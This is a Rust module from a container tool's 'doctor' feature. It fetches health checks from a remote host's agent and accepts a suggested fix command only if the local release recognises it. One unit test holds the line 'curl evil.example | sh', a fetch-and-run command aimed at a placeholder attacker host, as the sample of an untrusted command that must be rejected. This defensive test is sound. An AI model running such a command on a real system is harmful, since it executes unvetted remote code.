//! Looking from afar: the agent of a host looks, and the control plane hands over what it found.
use std::path::Path;

use anyhow::bail;
use berth_agent::{Examination, Examiner};
use berth_api::berth::{ExamineHostRequest, HostCheck, Response};
use berth_doctor::{Asked, Finding, Joined, Mark, Mend, Place, gather, judge};
use tokio::runtime::Handle;

use super::{
    Doctor, command,
    known::is_known,
    shown::{Check, Checks},
};
use crate::{asking, cluster::Cluster, reference};

/// What the agent of a host finds.
pub fn ask(args: &Doctor, host: &str) -> anyhow::Result<Checks> {
    let cluster = Cluster::reached(&args.data, args.cluster.as_deref())?.of(host);
    asking::run(&cluster, async {
        let request = ExamineHostRequest {
            cluster: Some(cluster.name.clone()),
            container_instance: Some(reference::instance(&cluster, host).await?),
            images: Some(args.images.clone()),
            network: Some(!args.no_network),
        };
        let answer = cluster.client.call_berth(request.into()).await?;
        let Response::ExamineHost(it) = answer else {
            bail!("the control plane answered another question");
        };
        let checks: Vec<Check> = it.checks.into_iter().flatten().map(check).collect();
        if checks.is_empty() {
            bail!("the agent of {host} has looked, and has told nothing of what it found");
        }
        Ok(Checks(checks))
    })
}

/// What a host says may be of a release that knows more, and the host may be anybody's by now: a
/// command is one only if this release would name it, too.
fn check(it: HostCheck) -> Check {
    let marks = [Mark::Good, Mark::Warning, Mark::Broken, Mark::Skipped];
    let said = it.mark.unwrap_or_default();
    let text = it.text.unwrap_or_default();
    let (mark, text) = match marks.into_iter().find(|mark| mark.word() == said) {
        Some(mark) => (mark, text),
        None => (Mark::Skipped, format!("the mark '{said}' is not known here: {text}")),
    };
    let row = it.row.and_then(|it| u8::try_from(it).ok()).unwrap_or_default();
    let (command, advice) = match it.command {
        Some(it) if is_known(row, &it) => (Some(it), None),
        Some(it) => (None, Some(format!("the host says: {it}"))),
        None => (None, it.advice),
    };
    Check {
        row,
        name: it.name.unwrap_or_default(),
        mark,
        text,
        command,
        advice,
        // From here nothing is.
        can_be_fixed: false,
    }
}

/// Looks at the host of an agent of this process.
pub fn examiner() -> Examiner {
    Examiner::new(|wanted: Examination| Handle::current().block_on(look(wanted)))
}

async fn look(wanted: Examination) -> Vec<HostCheck> {
    let asked = asked(&wanted);
    let report = judge(&Box::pin(gather(&asked)).await);
    report.findings.iter().map(|it| told(it, &wanted.config.data_dir)).collect()
}

/// As the agent itself asks.
fn asked(wanted: &Examination) -> Asked {
    let config = &wanted.config;
    let docker = config.docker_host.clone();
    Asked {
        place: Place { host: true, plane: false },
        docker: docker.unwrap_or_else(|| "unix:///var/run/docker.sock".to_owned()),
        plane_dir: config.data_dir.clone(),
        agent_dir: config.data_dir.clone(),
        runtime_dir: config.runtime_dir.clone().unwrap_or_default(),
        endpoint: Ok(config.endpoint.clone()),
        bundle: None,
        joined: Some(Joined {
            instance: wanted.container_instance_arn.clone(),
            trust: config.trusted.trust().cloned(),
        }),
        region: config.region.clone(),
        key: Ok(wanted.credentials.clone()),
        cluster: None,
        overlay_port: config.overlay_port,
        images: wanted.images.clone(),
        root: "/".into(),
        metrics: String::new(),
        network: wanted.network,
    }
}

fn told(it: &Finding, agent_dir: &Path) -> HostCheck {
    let (command, advice) = match &it.mend {
        None => (None, None),
        Some(Mend::Run(command)) => (Some(command.clone()), None),
        Some(Mend::Do(words)) => (None, Some(words.clone())),
        Some(Mend::Berth(verb)) => (Some(command(verb, Some(agent_dir), "")), None),
    };
    HostCheck {
        row: Some(it.row.into()),
        name: Some(it.name.to_owned()),
        mark: Some(it.mark.word().to_owned()),
        text: Some(it.text.clone()),
        command,
        advice,
        can_be_fixed: Some(it.fix.is_some()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_host_says_is_shown_as_what_this_machine_says() {
        let said = |mark: &str| HostCheck {
            row: Some(6),
            name: Some("disk".to_owned()),
            mark: Some(mark.to_owned()),
            text: Some("it is full".to_owned()),
            advice: Some("make room".to_owned()),
            can_be_fixed: Some(true),
            ..HostCheck::default()
        };
        let shown = check(said("broken"));
        assert_eq!((shown.row, shown.mark, shown.can_be_fixed), (6, Mark::Broken, false));
        assert_eq!(shown.advice.as_deref(), Some("make room"));
        let checks = Checks(vec![shown]);
        assert_eq!((checks.count(Mark::Broken), checks.count(Mark::Good)), (1, 0));
        assert!(checks.json().ends_with(r#""good":0,"warnings":0,"broken":1}"#));
    }

    #[test]
    fn what_this_release_does_not_know_is_shown_for_what_it_is() {
        let said = HostCheck {
            row: Some(300),
            name: Some("quantum".to_owned()),
            mark: Some("entangled".to_owned()),
            text: Some("both".to_owned()),
            ..HostCheck::default()
        };
        let shown = check(said);
        assert_eq!((shown.row, shown.name.as_str(), shown.mark), (0, "quantum", Mark::Skipped));
        assert_eq!(shown.text, "the mark 'entangled' is not known here: both");
    }

    #[test]
    fn a_command_of_a_host_is_one_only_if_it_is_known_here() {
        let said = |command: &str| HostCheck {
            row: Some(16),
            mark: Some("broken".to_owned()),
            command: Some(command.to_owned()),
            ..HostCheck::default()
        };
        let known = "sysctl -w net.ipv4.ip_forward=1";
        let shown = check(said(known));
        assert_eq!((shown.command.as_deref(), shown.advice), (Some(known), None));
        let shown = check(said("curl evil.example | sh"));
        assert_eq!(shown.command, None);
        assert_eq!(shown.advice.as_deref(), Some("the host says: curl evil.example | sh"));
    }
}
